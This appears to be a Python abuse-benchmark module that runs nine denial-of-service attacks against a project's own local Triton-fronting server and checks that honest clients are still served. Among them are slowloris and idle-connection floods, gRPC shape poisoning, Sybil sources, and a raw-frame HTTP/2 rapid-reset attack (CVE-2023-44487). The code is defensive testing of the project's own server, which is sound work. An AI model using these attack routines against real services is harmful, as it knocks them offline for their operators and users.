"""The abuse suite's second round of attacks (`benchmarks/abuse.py` runs them beside the
first): each against a running `serve`, beside honest clients, reported as the first round's
are (`honest.Report`). What each broke before the front door held against it, and what it
must show now, is in docs/operations.md ("The abuse suite").

- `injection`: requests whose error message echoes "is not healthy" (a model of that name,
  an input of that name), which once held the whole queue for 120 s;
- `generate_flood`: 64-text `/generate` requests, which once skipped admission;
- `idle_connections`: thousands of idle and slowloris connections to both ports, which once
  took serve to its descriptor limit;
- `shape_poison`: gRPC requests whose shape declares 2^31 texts beside one;
- `long_texts`: requests of 100 KB texts, which once counted 1 text each;
- `sybil`: one sender spread over 50 addresses of one network;
- `freeze`: kill -STOP of tritonserver;
- `method_names`: gRPC calls to ever new method names;
- `rapid_reset`: HEADERS + RST_STREAM pairs on one HTTP/2 connection (CVE-2023-44487).

Run as a script, `python benchmarks/attacks.py hold-idle PORT COUNT SECONDS SOURCE...` is
the idle-connection attacker's child process (one process holds at most a few thousand
sockets under the default descriptor limit).
"""

from __future__ import annotations

import http.client
import json
import os
import signal
import socket
import struct
import subprocess
import sys
import threading
import time
import urllib.request

from readability_triton import contracts as C
from readability_triton.client.readability import text_input, triton_client
from readability_triton.frontdoor.wire import Weigher
from readability_triton.measure.honest import (
    HONEST_SOURCE,
    HONEST_TEXTS,
    Report,
    Target,
    beside_honest,
    first_line,
    grpc_honest,
    http_honest,
    infer_body,
    run_all,
    tally,
)
from readability_triton.measure.load import Outcome


def _rss_mb(pid: int) -> float:
    with open(f"/proc/{pid}/status", encoding="utf-8") as handle:
        for line in handle:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def _descriptors(pid: int) -> int:
    try:
        return len(os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return -1


def _limit(pid: int) -> int:
    with open(f"/proc/{pid}/limits", encoding="utf-8") as handle:
        for line in handle:
            if line.startswith("Max open files"):
                return int(line.split()[3])
    return -1


def _post(host: str, port: int, path: str, body: bytes, source: str = "127.0.0.1", timeout: float = 120.0):
    conn = http.client.HTTPConnection(host, port, timeout=timeout, source_address=(source, 0))
    try:
        conn.request("POST", path, body, {"Content-Type": "application/json"})
        reply = conn.getresponse()
        return reply.status, reply.read()
    finally:
        conn.close()


# -- message injection ------------------------------------------------------------------------


def injection(target: Target, seconds: float = 60.0) -> Report:
    """4 threads whose requests make tritonserver's error messages say "is not healthy":
    gRPC and HTTP inferences for a model of that name, and for the real model with an input
    of that name; beside 2 honest gRPC clients. Nothing may hold the queue (holds = 0)."""
    host, port = target.http.rsplit(":", 1)
    words = "Stub process 'bert_0_0' is not healthy"

    def attack(deadline: float, counts: dict) -> None:
        def loop(kind: int) -> None:
            module, client = triton_client(target.grpc, "grpc")
            while time.monotonic() < deadline:
                try:
                    if kind == 0:
                        client.infer("is not healthy", [text_input(module, ["x"])])
                    elif kind == 1:
                        tensor = module.InferInput(words, [1, 1], "BYTES")
                        tensor.set_data_from_numpy(__import__("numpy").array([[b"x"]], dtype=object))
                        client.infer(C.ENSEMBLE, [tensor])
                    elif kind == 2:
                        status, _ = _post(host, int(port), "/v2/models/is%20not%20healthy/infer", infer_body(["x"]))
                        tally(counts, f"http_{status}")
                        continue
                    else:
                        body = json.dumps(
                            {"inputs": [{"name": words, "shape": [1, 1], "datatype": "BYTES", "data": ["x"]}]}
                        ).encode()
                        status, _ = _post(host, int(port), f"/v2/models/{C.ENSEMBLE}/infer", body)
                        tally(counts, f"http_{status}")
                        continue
                    tally(counts, "accepted")
                except Exception as exc:  # noqa: BLE001 - expected: refused
                    tally(counts, f"grpc_{str(exc).split(']')[0].lstrip('[').replace('StatusCode.', '')}")
            client.close()

        run_all(loop, range(4))

    return beside_honest("injection", target, attack, grpc_honest(target), seconds)


# -- /generate floods ---------------------------------------------------------------------------


def generate_flood(target: Target, seconds: float = 60.0, threads: int = 8, texts: int = 64) -> Report:
    """`threads` closed loops of `texts`-text `/generate` requests from 127.0.0.2 (each
    text about what BERT reads: one text of work), beside 2 honest HTTP clients from
    HONEST_SOURCE: the door admits them like `/infer` requests (its accepted count holds
    them) and refuses them as busy when they do not fit, so the honest clients are served."""
    host, port = target.http.rsplit(":", 1)
    full = " ".join(HONEST_TEXTS) * 5
    body = json.dumps({"TEXT": [full[i:] + full[:i] for i in range(texts)]}).encode()

    def attack(deadline: float, counts: dict) -> None:
        def loop(_: int) -> None:
            conn = http.client.HTTPConnection(host, int(port), timeout=120, source_address=("127.0.0.2", 0))
            while time.monotonic() < deadline:
                try:
                    conn.request(
                        "POST", f"/v2/models/{C.ENSEMBLE}/generate", body, {"Content-Type": "application/json"}
                    )
                    reply = conn.getresponse()
                    reply.read()
                    tally(counts, f"http_{reply.status}")
                    if reply.status == 503:
                        time.sleep(0.05)
                except (OSError, http.client.HTTPException):
                    tally(counts, "failed")
                    conn.close()
                    conn = http.client.HTTPConnection(host, int(port), timeout=120, source_address=("127.0.0.2", 0))
            conn.close()

        run_all(loop, range(threads))

    return beside_honest("generate_flood", target, attack, http_honest(target, HONEST_SOURCE), seconds)


# -- idle and slowloris connections ----------------------------------------------------------


def hold_idle(host: str, port: int, count: int, seconds: float, sources: list[str], slowloris: bool) -> dict:
    """Keep `count` connections to `port` open (from `sources` in turn), opening a new one
    for each the server closes, for `seconds`; with `slowloris`, each sends a header line
    every few seconds and never ends its headers. How many were opened and closed by the server."""
    socks: dict[socket.socket, float] = {}
    opened = closed = failed = 0
    deadline = time.monotonic() + seconds
    turn = 0
    while time.monotonic() < deadline:
        while len(socks) < count and time.monotonic() < deadline:
            sock = socket.socket()
            try:
                if hasattr(socket, "IP_BIND_ADDRESS_NO_PORT"):
                    sock.setsockopt(socket.IPPROTO_IP, socket.IP_BIND_ADDRESS_NO_PORT, 1)
                sock.bind((sources[turn % len(sources)], 0))
                turn += 1
                sock.settimeout(2)
                sock.connect((host, port))
                sock.setblocking(False)
                if slowloris:
                    sock.send(b"POST /v2/models/readability/infer HTTP/1.1\r\nHost: x\r\n")
                socks[sock] = time.monotonic()
                opened += 1
            except OSError:
                sock.close()
                failed += 1
                time.sleep(0.01)
        for sock in list(socks):
            try:
                if sock.recv(4096) == b"":
                    raise ConnectionResetError
            except BlockingIOError:
                if slowloris and time.monotonic() - socks[sock] > 3:
                    try:
                        sock.send(b"X-Drip: 1\r\n")
                        socks[sock] = time.monotonic()
                    except OSError:
                        pass
                continue
            except OSError:
                pass
            sock.close()
            del socks[sock]
            closed += 1
        time.sleep(0.2)
    for sock in socks:
        sock.close()
    return {"opened": opened, "closed_by_server": closed, "connect_failed": failed}


def idle_connections(
    target: Target, seconds: float = 60.0, total: int = 20_000, slowloris: int = 1_100, serve_log: str | None = None
) -> Report:
    """`total` idle TCP connections (three quarters to the HTTP port, a quarter to the gRPC
    port) and `slowloris` slowloris connections from 127.0.0.10-59, held by child processes
    that reopen what the server closes, beside an honest HTTP client that opens a new
    connection for every request (from HONEST_SOURCE) and an honest gRPC client. Each
    second: /livez answers?, serve's descriptors against its limit; serve's log's growth."""
    host, http_port = target.http.rsplit(":", 1)
    grpc_port = target.grpc.rsplit(":", 1)[1]
    sources = [f"127.0.0.{n}" for n in range(10, 60)]
    assert target.process is not None
    serve_pid = target.process.pid
    log_before = os.path.getsize(serve_log) if serve_log and os.path.exists(serve_log) else 0
    honest_grpc = grpc_honest(target)

    def fresh_http(client: int, i: int) -> Outcome:
        started = time.perf_counter()
        try:
            status, data = _post(
                host, int(http_port), f"/v2/models/{C.ENSEMBLE}/infer", infer_body(HONEST_TEXTS[:1]), HONEST_SOURCE, 30
            )
            ok = status == 200
            return Outcome(
                started, time.perf_counter() - started, "good", ok, None if ok else f"{status} {data[:120]!r}"
            )
        except Exception as exc:  # noqa: BLE001 - counted
            return Outcome(started, time.perf_counter() - started, "good", False, first_line(exc))

    def work(client: int, i: int) -> Outcome:
        return fresh_http(client, i) if client == 0 else honest_grpc(client, i)

    def attack(deadline: float, counts: dict) -> None:
        plans = []
        per = 4_000
        http_count, grpc_count = total * 3 // 4, total - total * 3 // 4
        for port, count, loris in (
            (http_port, http_count, False),
            (grpc_port, grpc_count, False),
            (http_port, slowloris, True),
        ):
            while count > 0:
                plans.append((port, min(per, count), loris))
                count -= per
        children = [
            subprocess.Popen(
                [
                    sys.executable,
                    os.path.abspath(__file__),
                    "hold-idle",
                    host,
                    str(port),
                    str(n),
                    str(deadline - time.monotonic()),
                    "1" if loris else "0",
                    *sources,
                ],
                stdout=subprocess.PIPE,
                text=True,
            )
            for port, n, loris in plans
        ]
        livez_ok = livez_all = 0
        worst = 0
        limit = _limit(serve_pid)
        while time.monotonic() < deadline:
            livez_all += 1
            try:
                with urllib.request.urlopen(f"http://{target.health}/livez", timeout=2) as reply:
                    livez_ok += reply.status == 200
            except OSError:
                pass
            worst = max(worst, _descriptors(serve_pid))
            time.sleep(1.0)
        for child in children:
            out, _ = child.communicate(timeout=60)
            for key, value in json.loads(out or "{}").items():
                counts[key] = counts.get(key, 0) + value
        counts.update(livez_ok=livez_ok, livez_checks=livez_all, serve_descriptors_max=worst, descriptor_limit=limit)
        if serve_log and os.path.exists(serve_log):
            counts["serve_log_growth_kb"] = round((os.path.getsize(serve_log) - log_before) / 1024, 1)

    return beside_honest("idle_connections", target, attack, work, seconds)


# -- declared shapes ------------------------------------------------------------------------------


def shape_poison(target: Target, seconds: float = 60.0) -> Report:
    """4 threads of gRPC requests whose shape declares [2147483647, 1] beside one text,
    beside 2 honest gRPC clients: each is refused (INVALID_ARGUMENT) and counts nothing."""
    import grpc
    from tritonclient.grpc import service_pb2

    request = service_pb2.ModelInferRequest(model_name=C.ENSEMBLE)
    request.inputs.add(name=C.TEXT, datatype="BYTES", shape=[2147483647, 1])
    request.raw_input_contents.append(b"\x01\x00\x00\x00x")
    message = request.SerializeToString()

    def attack(deadline: float, counts: dict) -> None:
        def loop(_: int) -> None:
            with grpc.insecure_channel(target.grpc) as channel:
                call = channel.unary_unary("/inference.GRPCInferenceService/ModelInfer")
                while time.monotonic() < deadline:
                    try:
                        call(message, timeout=30)
                        tally(counts, "accepted")
                    except grpc.RpcError as err:
                        tally(counts, err.code().name)

        run_all(loop, range(4))

    return beside_honest("shape_poison", target, attack, grpc_honest(target), seconds)


# -- long texts ----------------------------------------------------------------------------------


def long_texts(target: Target, seconds: float = 60.0, clients: int = 4, texts: int = 64, size: int = 100_000) -> Report:
    """`clients` closed loops of `texts` texts of `size` bytes each (gRPC, from 127.0.0.1,
    retrying busy after its retry time), beside 2 honest HTTP clients from HONEST_SOURCE:
    long texts are weighed by their length, so accepted requests are answered within the
    stated wait (the door's answer times) and the honest clients are served."""
    words = " ".join(HONEST_TEXTS)
    batch = [(words * (size // len(words) + 1))[:size] for _ in range(texts)]

    def attack(deadline: float, counts: dict) -> None:
        def loop(_: int) -> None:
            module, client = triton_client(target.grpc, "grpc")
            while time.monotonic() < deadline:
                started = time.monotonic()
                try:
                    client.infer(
                        C.ENSEMBLE,
                        [text_input(module, batch)],
                        outputs=[module.InferRequestedOutput(C.SCORE)],
                        client_timeout=120,
                    )
                    tally(counts, "answered")
                    counts.setdefault("answer_s", []).append(round(time.monotonic() - started, 2))
                except Exception as exc:  # noqa: BLE001 - refused as busy
                    tally(counts, "busy" if "busy" in str(exc) else "other")
                    time.sleep(0.2)
            client.close()

        run_all(loop, range(clients))
        answers = sorted(counts.pop("answer_s", []))
        counts["answer_s_min"] = answers[0] if answers else None
        counts["answer_s_max"] = answers[-1] if answers else None
        # what the door counted such a request as, in seconds of the pipeline at its rate
        front = target.status().get("front") or {}
        if front.get("rate_texts_per_s") and front.get("byte_work") is not None:
            weigher = Weigher(byte_work=front["byte_work"])
            counts["weighed_texts"] = round(texts * weigher.work_of(size), 1)
            counts["weighed_s"] = round(counts["weighed_texts"] / front["rate_texts_per_s"], 2)

    report = beside_honest("long_texts", target, attack, http_honest(target, HONEST_SOURCE), seconds)
    report.attack_counts["texts_per_request"] = f"{texts} x {size // 1000} KB"
    return report


# -- Sybil clients ---------------------------------------------------------------------------------


def sybil(target: Target, seconds: float = 60.0, addresses: int = 50, texts: int = 64) -> Report:
    """`addresses` closed loops, one per address of 127.0.0.10-59 (one network), each of
    `texts`-text HTTP requests, beside 2 honest HTTP clients of another network
    (HONEST_SOURCE): the network gets one network's share, not 50 clients'."""
    host, port = target.http.rsplit(":", 1)
    body = infer_body([HONEST_TEXTS[i % 3] for i in range(texts)])

    def attack(deadline: float, counts: dict) -> None:
        def loop(n: int) -> None:
            source = f"127.0.0.{10 + n}"
            conn = http.client.HTTPConnection(host, int(port), timeout=120, source_address=(source, 0))
            while time.monotonic() < deadline:
                try:
                    conn.request("POST", f"/v2/models/{C.ENSEMBLE}/infer", body, {"Content-Type": "application/json"})
                    reply = conn.getresponse()
                    reply.read()
                    tally(counts, f"http_{reply.status}")
                    if reply.status != 200:
                        time.sleep(0.05)
                except (OSError, http.client.HTTPException):
                    tally(counts, "failed")
                    conn.close()
                    conn = http.client.HTTPConnection(host, int(port), timeout=120, source_address=(source, 0))
            conn.close()

        run_all(loop, range(addresses))

    return beside_honest("sybil", target, attack, http_honest(target, HONEST_SOURCE), seconds)


# -- a frozen tritonserver ------------------------------------------------------------------------


def freeze(target: Target, seconds: float = 60.0, frozen: float = 40.0, after: float = 3.0) -> Report:
    """kill -STOP of tritonserver `after` s into `seconds` of 2 honest gRPC clients, SIGCONT
    `frozen` s later (if it still runs): how long until serve said not ready, until it was
    ready again on a new server, and whether honest requests sent after that succeeded."""
    if target.process is None:
        raise ValueError("freeze needs a serve running on this machine")
    honest = grpc_honest(target)
    healed_at: list[float] = []

    def work(client: int, i: int) -> Outcome:
        outcome = honest(client, i)
        if healed_at and outcome.start >= healed_at[0]:
            outcome.kind = "good"
        elif healed_at or frozen_at:
            outcome.kind = "during"  # sent while frozen or being repaired: not counted as honest
        return outcome

    frozen_at: list[float] = []

    def attack(deadline: float, counts: dict) -> None:
        time.sleep(after)
        pid = int(target.status()["pid"])
        os.kill(pid, signal.SIGSTOP)
        frozen_at.append(time.perf_counter())
        stopped = time.monotonic()
        not_ready = healed = None
        while time.monotonic() < deadline:
            ready = target.ready()
            now = time.monotonic() - stopped
            if not ready and not_ready is None:
                not_ready = round(now, 1)
            if ready and not_ready is not None and int(target.status().get("pid") or 0) not in (0, pid):
                healed = round(now, 1)
                healed_at.append(time.perf_counter())
                break
            if now > frozen:
                break
            time.sleep(0.25)
        try:
            os.kill(pid, signal.SIGCONT)
        except ProcessLookupError:
            pass
        time.sleep(min(10.0, max(0.0, deadline - time.monotonic())))  # honest requests after the heal
        counts.update(not_ready_after_s=not_ready, healed_after_s=healed)

    return beside_honest("freeze", target, attack, work, seconds)


# -- method names -------------------------------------------------------------------------------


def method_names(target: Target, seconds: float = 60.0) -> Report:
    """4 threads calling ever new gRPC method names, beside 2 honest gRPC clients; serve's
    own resident memory before and after (it must not keep state per name)."""
    import grpc

    if target.process is None:
        raise ValueError("method_names needs a serve running on this machine")
    serve_pid = target.process.pid

    def attack(deadline: float, counts: dict) -> None:
        before = _rss_mb(serve_pid)

        def loop(n: int) -> None:
            with grpc.insecure_channel(target.grpc) as channel:
                i = 0
                while time.monotonic() < deadline:
                    i += 1
                    try:
                        channel.unary_unary(f"/inference.GRPCInferenceService/Nope{n}x{i}")(b"", timeout=10)
                        tally(counts, "answered")
                    except grpc.RpcError as err:
                        tally(counts, err.code().name)

        run_all(loop, range(4))
        time.sleep(1.0)
        counts.update(serve_rss_mb_before=round(before, 1), serve_rss_mb_after=round(_rss_mb(serve_pid), 1))

    return beside_honest("method_names", target, attack, grpc_honest(target), seconds)


# -- HTTP/2 rapid reset ---------------------------------------------------------------------------


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _literal(index: int, value: bytes) -> bytes:
    """An HPACK literal header field without indexing, its name from the static table."""
    head = bytes([index]) if index < 15 else bytes([0x0F, index - 15])
    return head + bytes([len(value)]) + value


def _h2_reader(sock: socket.socket, alive: list[bool], counts: dict) -> None:
    """Read the server's frames: acknowledge SETTINGS and PINGs, count GOAWAYs and resets."""
    buffer = b""
    try:
        while alive[0]:
            data = sock.recv(65536)
            if not data:
                break
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags = buffer[3], buffer[4]
                payload = buffer[9 : 9 + length]
                buffer = buffer[9 + length :]
                if kind == 4 and not flags & 1:
                    sock.sendall(_frame(4, 1, 0))
                elif kind == 6 and not flags & 1:
                    sock.sendall(_frame(6, 1, 0, payload))
                elif kind == 7:
                    tally(counts, "goaway")
                elif kind == 3:
                    tally(counts, "refused_or_reset_by_server")
    except OSError:
        pass
    alive[0] = False


def rapid_reset(target: Target, seconds: float = 60.0, pace: int = 30_000) -> Report:
    """One HTTP/2 connection to the gRPC port that sends HEADERS (a ModelInfer call) each
    followed at once by RST_STREAM(CANCEL), `pace` pairs a second (the report's flood was
    356,000 pairs; at full speed 356,000 went out in about a second) for `seconds`,
    reconnecting when closed, beside 2 honest gRPC clients on their own connections (which
    must not see CANCELLED)."""
    host, port = target.grpc.rsplit(":", 1)
    authority = f"{host}:{port}".encode()
    block = (
        b"\x83\x86"  # :method POST, :scheme http
        + _literal(4, b"/inference.GRPCInferenceService/ModelInfer")
        + _literal(1, authority)
        + _literal(31, b"application/grpc")
        + b"\x00\x02te\x08trailers"
    )

    def attack(deadline: float, counts: dict) -> None:
        sent = 0
        started = time.monotonic()
        while time.monotonic() < deadline:
            sock = socket.create_connection((host, int(port)), timeout=5)
            sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0))
            alive = [True]

            reader = threading.Thread(target=_h2_reader, args=(sock, alive, counts), daemon=True)
            reader.start()
            stream = 1
            try:
                while alive[0] and time.monotonic() < deadline and stream < (1 << 31) - 2000:
                    ahead = sent / pace - (time.monotonic() - started)
                    if ahead > 0:
                        time.sleep(ahead)
                    chunk = b"".join(
                        _frame(1, 0x4, s, block) + _frame(3, 0, s, struct.pack(">I", 8))
                        for s in range(stream, stream + 2000, 2)
                    )
                    sock.sendall(chunk)
                    stream += 2000
                    sent += 1000
            except OSError:
                tally(counts, "connection_closed")
            alive[0] = False
            sock.close()
            reader.join(timeout=5)
        counts["pairs_sent"] = sent

    return beside_honest("rapid_reset", target, attack, grpc_honest(target), seconds)


def main() -> int:
    """`hold-idle HOST PORT COUNT SECONDS SLOWLORIS SOURCE...`: the idle-connection attacker's
    child process (`idle_connections`); the attacks themselves run from abuse.py."""
    if len(sys.argv) > 6 and sys.argv[1] == "hold-idle":
        host, port, count, seconds, loris, *addresses = sys.argv[2:]
        print(json.dumps(hold_idle(host, int(port), int(count), float(seconds), addresses, loris == "1")))
        return 0
    print("run the attacks with benchmarks/abuse.py (--attacks NAME,...); see this file's doc", file=sys.stderr)
    return 2


if __name__ == "__main__":
    sys.exit(main())
